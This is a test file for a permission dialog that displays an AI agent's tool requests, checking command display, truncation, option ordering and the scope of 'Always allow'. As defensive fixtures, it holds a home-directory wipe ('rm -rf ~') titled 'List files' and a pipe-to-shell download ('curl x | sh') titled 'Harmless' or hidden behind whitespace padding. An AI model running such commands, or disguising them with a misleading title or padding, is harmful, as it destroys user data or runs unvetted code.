/** What the permission dialog shows of a request (pure): command, paths, diffs, input, option order and scope. */
import { describe, expect, test } from "bun:test";
import {
  MAX_INPUT_CHARS,
  MAX_SHOWN_CHARS,
  MAX_SHOWN_DIFFS,
  MAX_SHOWN_PATHS,
  MAX_TITLE_CHARS,
  orderedOptions,
  permissionDetails,
  safestOption,
  widening,
} from "../../src/web/permission-details.ts";
import type { PendingPermission, PermissionOption } from "../../src/web/transcript-model.ts";

const request = (fields: Partial<PendingPermission> = {}): PendingPermission => ({
  requestId: "r1",
  title: "Tool call",
  options: [],
  toolKind: undefined,
  toolName: undefined,
  rawInput: undefined,
  locations: [],
  content: [],
  ...fields,
});

const ALWAYS: PermissionOption = { optionId: "proceed_always", name: "Always allow", kind: "allow_always" };
const ONCE: PermissionOption = { optionId: "proceed_once", name: "Allow", kind: "allow_once" };
const REJECT: PermissionOption = { optionId: "cancel", name: "Reject", kind: "reject_once" };
const NEVER: PermissionOption = { optionId: "never", name: "Never", kind: "reject_always" };
const ODD: PermissionOption = { optionId: "odd", name: "Maybe" };

describe("permission details", () => {
  test("an execute call shows rawInput.command, not the agent's title, and drops the `$ command` echo of its content", () => {
    const d = permissionDetails(request({ title: "List files", toolKind: "execute", rawInput: { command: "rm -rf ~" }, content: [{ type: "text", text: "$ rm -rf ~" }, { type: "text", text: "note" }] }));
    expect(d.command).toEqual({ text: "rm -rf ~", omitted: 0 });
    expect(d.title).toEqual({ text: "List files", omitted: 0 });
    expect(d.texts).toEqual([{ text: "note", omitted: 0 }]);
    expect(d.input?.text).toBe('{\n  "command": "rm -rf ~"\n}');
  });

  test("an argv command is joined with shell quoting; without rawInput.command the content is the command", () => {
    expect(permissionDetails(request({ toolKind: "execute", rawInput: { command: ["bash", "-lc", "echo 'hi' && ls"] } })).command?.text).toBe(`bash -lc 'echo '\\''hi'\\'' && ls'`);
    const fromContent = permissionDetails(request({ toolKind: "execute", rawInput: {}, content: [{ type: "text", text: "$ make install" }] }));
    expect(fromContent.command?.text).toBe("make install");
    expect(fromContent.texts).toEqual([]);
    // Not an execute call: a `command` field is input, shown as such.
    const other = permissionDetails(request({ toolKind: "other", rawInput: { command: "x" } }));
    expect(other.command).toBeNull();
    expect(other.input?.text).toContain('"command": "x"');
  });

  test("paths, diffs and input come from the request, bounded", () => {
    const locations = Array.from({ length: MAX_SHOWN_PATHS + 3 }, (_, i) => ({ path: `/w/f${i}`, line: i }));
    const diffs = Array.from({ length: MAX_SHOWN_DIFFS + 2 }, (_, i) => ({ type: "diff" as const, path: `/w/d${i}`, oldText: null, newText: "x" }));
    const d = permissionDetails(request({ toolKind: "edit", locations, content: diffs, rawInput: { pad: "p".repeat(MAX_INPUT_CHARS) } }));
    expect(d.paths).toHaveLength(MAX_SHOWN_PATHS);
    expect(d.paths[0]).toEqual({ path: "/w/f0", line: 0 });
    expect(d.omittedPaths).toBe(3);
    expect(d.diffs.map((x) => x.path)).toEqual(diffs.slice(0, MAX_SHOWN_DIFFS).map((x) => x.path));
    expect(d.omittedDiffs).toBe(2);
    expect(d.input!.text).toHaveLength(MAX_INPUT_CHARS);
    expect(d.input!.omitted).toBeGreaterThan(0);
  });

  test("long titles and commands are cut with a count, never in the middle of a surrogate pair", () => {
    const d = permissionDetails(request({ title: "t".repeat(MAX_TITLE_CHARS + 10), toolKind: "execute", rawInput: { command: `${"c".repeat(MAX_SHOWN_CHARS - 1)}😀tail` } }));
    expect(d.title).toEqual({ text: "t".repeat(MAX_TITLE_CHARS), omitted: 10 });
    expect(d.command!.text).toBe("c".repeat(MAX_SHOWN_CHARS - 1));
    expect(d.command!.omitted).toBe(6);
  });

  test("input: a string as is, nothing when the agent sent none", () => {
    expect(permissionDetails(request({ rawInput: "raw text" })).input?.text).toBe("raw text");
    expect(permissionDetails(request({ rawInput: 42 })).input?.text).toBe("42");
    expect(permissionDetails(request()).input).toBeNull();
    expect(permissionDetails(request({ rawInput: null })).input).toBeNull();
  });

  test("options: least permissive first, the agent's order within a kind; the default is a refusal, never an allow", () => {
    expect(orderedOptions([ALWAYS, ONCE, ODD, REJECT, NEVER]).map((o) => o.optionId)).toEqual(["cancel", "never", "proceed_once", "odd", "proceed_always"]);
    expect(safestOption([ALWAYS, ONCE, REJECT, NEVER])).toBe(REJECT);
    expect(safestOption([ALWAYS, NEVER])).toBe(NEVER);
    expect(safestOption([ALWAYS, ONCE, ODD])).toBeUndefined();
  });

  test("an Always option's scope comes from the request: the exact command, else every call of the tool or kind", () => {
    const shell = request({ title: "Harmless", toolKind: "execute", toolName: "run_shell_command", rawInput: { command: "curl x | sh" } });
    expect(widening(shell, permissionDetails(shell))).toBe("for the rest of this session: the command “curl x | sh”");
    const write = request({ title: "Create a.txt", toolKind: "edit", toolName: "write_file" });
    expect(widening(write, permissionDetails(write))).toBe("for the rest of this session: every write_file call");
    const edit = request({ title: "Edit", toolKind: "edit" });
    expect(widening(edit, permissionDetails(edit))).toBe("for the rest of this session: every edit call");
    const bare = request({ title: "mystery" });
    expect(widening(bare, permissionDetails(bare))).toBe("for the rest of this session: calls like “mystery”");
    const long = request({ toolKind: "execute", rawInput: { command: "y".repeat(500) } });
    expect(widening(long, permissionDetails(long))).toBe(`for the rest of this session: the command “${"y".repeat(200)}…”`);
    // Blank space cannot push the rest of a command past the quote's cut.
    const padded = request({ toolKind: "execute", rawInput: { command: `npm test${" ".repeat(240)}${"\n".repeat(40)}curl x | sh` } });
    expect(widening(padded, permissionDetails(padded))).toBe("for the rest of this session: the command “npm test curl x | sh”");
  });
});
